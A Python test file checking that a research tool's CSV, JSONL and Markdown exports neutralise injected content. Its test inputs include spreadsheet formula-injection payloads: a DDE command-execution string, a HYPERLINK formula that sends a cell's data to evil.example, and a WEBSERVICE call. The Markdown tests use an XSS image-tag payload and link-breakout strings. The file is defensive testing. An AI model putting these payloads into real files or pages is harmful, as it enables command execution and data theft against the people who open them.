"""Exports a spreadsheet, a JSONL reader or a Markdown renderer cannot be fooled by: every CSV cell (header too)
stays one cell and runs as no formula, whatever its text; a JSONL record stays on one line; text in the Markdown
report cannot open a link, a tag, a code span or a new table cell (issue 17, item 4)."""

from __future__ import annotations

import csv
import io
import re
import unicodedata
from datetime import UTC, datetime

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from researchcrew.contracts.query import Query
from researchcrew.contracts.synthesizer import Citation, FinalResponse
from researchcrew.jobs._exports import to_csv, to_jsonl, to_markdown
from researchcrew.jobs.contracts import ItemFailure, QuestionResult, RunCounts, RunInfo

# An oracle written apart from the code under test: a cell is safe when it does not start with tab or CR and its
# NFKC form, past blanks and invisible characters, does not start with = + - @ (a plain decimal number excepted).
FORMULA = ("=", "+", "-", "@")
PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _runs_as_formula(cell: str) -> bool:
    if cell.startswith(("\t", "\r")):
        return True
    folded = unicodedata.normalize("NFKC", cell)
    visible = [c for c in folded if not (c.isspace() or unicodedata.category(c) in ("Cc", "Cf"))]
    return bool(visible) and visible[0] in FORMULA and not PLAIN_NUMBER.fullmatch(cell)


def _result(
    question: str = "What is RAG?",
    *,
    index: int = 0,
    carried: dict[str, str] | None = None,
    answer: str = "Retrieval-augmented generation [1].",
    title: str = "RAG explained",
    url: str = "https://example.org/rag",
    failure: str | None = None,
) -> QuestionResult:
    response = FinalResponse(
        query=Query(text=question[:100] or "q", user_id="ada", session_id="s1"),
        answer=answer,
        citations=[Citation(number=1, chunk_id="c1", source_type="web", title=title, url=url)],
        confidence=0.8,
        confidence_level="high",
    )
    return QuestionResult(
        index=index,
        question=question,
        carried=carried or {},
        status="answered",
        attempts=1,
        confidence_level="high",
        citation_count=1,
        sources_used=["web"],
        sources_failed=[],
        response=response,
        failure=ItemFailure(kind="error", message=failure) if failure is not None else None,
        started_at=None,
        finished_at=None,
    )


def _parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _carried_cell(value: str, column: str = "note") -> tuple[list[list[str]], str]:
    """Export one question carrying ``value`` in ``column``; the parsed rows and the cell that came back."""
    rows = _parse(to_csv([_result(carried={column: value})], [column]))
    return rows, rows[1][rows[0].index(column)]


# CSV: one class of input per case -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "-2+3+cmd|' /C calc'!A0",
    ],
    ids=["equals", "plus", "minus", "at", "tab", "carriage-return", "hyperlink", "dde"],
)
def test_each_formula_character_is_neutralised_not_only_equals(value: str) -> None:
    rows, cell = _carried_cell(value)
    assert len(rows) == 2 and cell == "'" + value and not _runs_as_formula(cell)


@pytest.mark.parametrize(
    "value",
    ["＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", "﹦1+1", "﹢1", "﹣1+1", "⁼1", "₊1"],
    ids=["fw-equals", "fw-plus", "fw-minus", "fw-at", "small-equals", "small-plus", "small-minus", "sup", "sub"],
)
def test_look_alikes_that_fold_to_a_formula_character_are_neutralised(value: str) -> None:
    _, cell = _carried_cell(value)
    assert unicodedata.normalize("NFKC", value)[0] in FORMULA
    assert cell == "'" + value and not _runs_as_formula(cell)


@pytest.mark.parametrize(
    "value",
    ["  =1+1", "\n=1+1", "\u3000＝1+1", "\u200b=1+1", "\ufeff@SUM(A1)", "\u00a0-1+1"],
    ids=["spaces", "newline", "ideographic-space", "zero-width-space", "bom", "nbsp"],
)
def test_a_formula_behind_leading_blanks_or_invisible_characters_is_neutralised(value: str) -> None:
    rows, cell = _carried_cell(value)
    assert len(rows) == 2 and cell == "'" + value


def test_a_carriage_return_stays_inside_its_cell_and_starts_no_row() -> None:
    # The reported case: with lineterminator "\n" and minimal quoting, "\r=1+1" was written bare, and a reader
    # (or a spreadsheet) took the \r as a line break: a new row whose first cell was =1+1.
    text = to_csv([_result(carried={"note": "\r=1+1", "other": "x\ry"})], ["note", "other"])
    rows = _parse(text)
    assert len(rows) == 2 and {len(row) for row in rows} == {len(rows[0])}
    assert rows[1][2:4] == ["'\r=1+1", "x\ry"]
    assert '"\'\r=1+1"' in text  # quoted, so the \r is part of the cell


@pytest.mark.parametrize(
    "value",
    ['say "hi"', '"', "a,b", ",", "line one\nline two", "one\r\ntwo", "ends with \\", "tab\tinside", "'quoted'"],
    ids=["quotes", "lone-quote", "comma", "lone-comma", "newline", "crlf", "backslash", "inner-tab", "apostrophes"],
)
def test_quotes_delimiters_and_line_breaks_come_back_as_written(value: str) -> None:
    rows, cell = _carried_cell(value)
    assert len(rows) == 2 and len(rows[1]) == len(rows[0]) and cell == value


def test_every_cell_is_quoted() -> None:
    text = to_csv([_result()], [])
    assert all(line.startswith('"') and line.endswith('"') for line in text.splitlines())


@pytest.mark.parametrize(
    "column", ['=HYPERLINK("https://evil.example","x")', "@cmd", "+a", "-a", "＝A1", "\rname", " =A1"]
)
def test_header_cells_are_neutralised_too(column: str) -> None:
    rows = _parse(to_csv([_result(carried={column: "v"})], [column]))
    assert rows[0][2] == "'" + column and rows[1][2] == "v"
    assert not any(_runs_as_formula(cell) for cell in rows[0])


def test_ordinary_text_and_numbers_are_left_readable() -> None:
    plain = ["What is RAG?", "a-b", "e=mc2", "", "-3", "-0.25", "42", "café", "'already'"]
    for value in plain:
        assert _carried_cell(value)[1] == value  # -3 stays a number: no apostrophe where none is needed
    for value in ["-3+1", "-1e5", "－3", "-3 "]:
        assert _carried_cell(value)[1] == "'" + value  # anything beyond a plain decimal number is guarded


def test_web_text_in_answers_titles_links_and_failures_is_neutralised() -> None:
    result = _result(
        '=WEBSERVICE("https://evil.example")',
        answer="@SUM(A1)\n=1+1",
        title="＝cmd|' /C calc'!A0",
        url="-1+1",
        failure="+failed",
    )
    rows = _parse(to_csv([result], []))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["question"].startswith("'=") and row["answer"].startswith("'@")
    assert row["citation_1_title"].startswith("'＝") and row["citation_1_url"] == "'-1+1"
    assert row["failure"] == "'+failed"
    assert not any(_runs_as_formula(cell) for cell in rows[1])


# CSV: the property -----------------------------------------------------------------------------------------------
_tricky = st.sampled_from([*"=+-@\t\r\n\",;'|＝＋－＠﹦﹢﹣⁼₊ \u00a0\u200b\u3000\ufeff\u2028\x00", "\r\n", "-3", "0.5"])
_text = st.lists(st.one_of(st.characters(codec="utf-8"), _tricky), max_size=12).map("".join)


@settings(
    derandomize=True,  # the same examples on every run: CI cannot flake on this test
    database=None,
    max_examples=250,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow],
)
@given(
    columns=st.lists(_text.filter(bool), unique=True, max_size=3),
    questions=st.lists(st.tuples(_text, st.lists(_text, min_size=3, max_size=3), _text, _text, _text), max_size=3),
)
def test_any_text_exports_to_the_same_cells_none_of_which_runs_as_a_formula(
    columns: list[str], questions: list[tuple[str, list[str], str, str, str]]
) -> None:
    results = [
        _result(
            question, index=n, carried=dict(zip(columns, values, strict=False)), answer=answer, title=title, url=url
        )
        for n, (question, values, answer, title, url) in enumerate(questions)
    ]
    rows = _parse(to_csv(results, columns))
    assert len(rows) == 1 + len(results)
    assert {len(row) for row in rows} == {len(rows[0])}
    assert not any(_runs_as_formula(cell) for row in rows for cell in row)
    # and it stays readable: each cell is its text, or its text behind one apostrophe
    for cell, column in zip(rows[0][2:], columns, strict=False):
        assert cell in (column, "'" + column)
    for row, (question, values, *_rest) in zip(rows[1:], questions, strict=True):
        assert row[1] in (question, "'" + question)
        for cell, value in zip(row[2 : 2 + len(columns)], values, strict=False):
            assert cell in (value, "'" + value)


# JSONL and Markdown ----------------------------------------------------------------------------------------------
def test_a_jsonl_record_stays_on_one_line_whatever_separators_its_text_holds() -> None:
    results = [_result("a\u2028b\u2029c\x85d\r\ne", answer="x\u2028y"), _result("second", index=1)]
    lines = to_jsonl(results).splitlines()  # str.splitlines cuts at U+2028, U+2029 and U+0085 too
    assert len(lines) == 2
    assert [QuestionResult.model_validate_json(line) for line in lines] == results


def _run() -> RunInfo:
    now = datetime(2025, 1, 6, 6, 0, tzinfo=UTC)
    return RunInfo(
        id="run-0123456789ab",
        job_id="j1",
        job_name="weekly",
        owner="ada",
        trigger="manual",
        slot_at=None,
        executor="in_process",
        status="completed",
        created_at=now,
        started_at=now,
        finished_at=now,
        cancel_requested=False,
        counts=RunCounts(total=1, answered=1),
        source_failures=[],
        webhook_state="none",
        webhook_error=None,
    )


def test_a_markdown_table_cell_cannot_split_the_row_or_open_a_link() -> None:
    question = "a | b\\| c\nnew line [x](https://evil.example) <img src=x onerror=alert(1)> `code`"
    report = to_markdown(_run(), [_result(question)])
    [row] = [line for line in report.splitlines() if line.startswith("| 1 |")]
    unescaped_pipes = re.findall(r"(?<!\\)(?:\\\\)*\|", row)  # a pipe after an even number of backslashes
    assert len(unescaped_pipes) == 8  # 7 columns
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]<>`]", row)  # no unescaped link, tag or code span character
    heading = next(line for line in report.splitlines() if line.startswith("### 1."))
    assert "\n" not in heading and "\\[x\\]" in heading and "\\<img" in heading


def test_a_markdown_source_link_cannot_be_broken_out_of() -> None:
    result = _result(
        title="Real title](https://evil.example) [more",
        url='https://example.org/a page)(x"y',
    )
    report = to_markdown(_run(), [result])
    [line] = [line for line in report.splitlines() if line.startswith("- [1] ")]
    assert line == ("- [1] [Real title\\](https://evil.example) \\[more](https://example.org/a%20page%29%28x%22y)")


def test_carried_column_names_and_values_are_text_in_the_report() -> None:
    result = _result(carried={"<script>x</script>\nteam": "[qa](https://evil.example)"})
    report = to_markdown(_run(), [result])
    [line] = [line for line in report.splitlines() if "team" in line]
    assert line == "\\<script\\>x\\</script\\> team: \\[qa\\](https://evil.example)"


# What the answers cost (issue 23) -------------------------------------------------------------------------------
def _costing(result: QuestionResult, usd: float | None) -> QuestionResult:
    from researchcrew.contracts.cost import AnswerCost

    assert result.response is not None
    cost = AnswerCost(model="gpt-4o-mini", usd=usd, priced=usd is not None, stages={"synthesis": usd})
    return result.model_copy(update={"response": result.response.model_copy(update={"cost": cost})})


def test_each_export_says_what_each_answer_and_the_run_cost() -> None:
    import json

    priced = [_costing(_result(index=0), 0.0012), _costing(_result("What is BM25?", index=1), 0.0003)]
    rows = list(csv.DictReader(io.StringIO(to_csv(priced, []), newline="")))
    assert [row["cost_usd"] for row in rows] == ["0.001200", "0.000300"]
    assert [row["run_cost_usd"] for row in rows] == ["0.001500", "0.001500"]  # a column: every row stays a question
    assert [row["question"] for row in rows] == ["What is RAG?", "What is BM25?"]
    assert [json.loads(line)["response"]["cost"]["usd"] for line in to_jsonl(priced).splitlines()] == [0.0012, 0.0003]
    assert "- **Cost:** $0.001500 (gpt-4o-mini)" in to_markdown(_run(), priced)

    unknown = [priced[0], _costing(_result("What is BM25?", index=1), None)]
    assert [
        (row["cost_usd"], row["run_cost_usd"]) for row in csv.DictReader(io.StringIO(to_csv(unknown, []), newline=""))
    ] == [("0.001200", "unknown"), ("unknown", "unknown")]
    assert {row["run_cost_usd"] for row in csv.DictReader(io.StringIO(to_csv([_result()], []), newline=""))} == {
        "0.000000"  # no LLM call: exactly 0
    }
    assert "- **Cost:** price unknown (gpt-4o-mini)" in to_markdown(_run(), unknown)  # never a partial sum
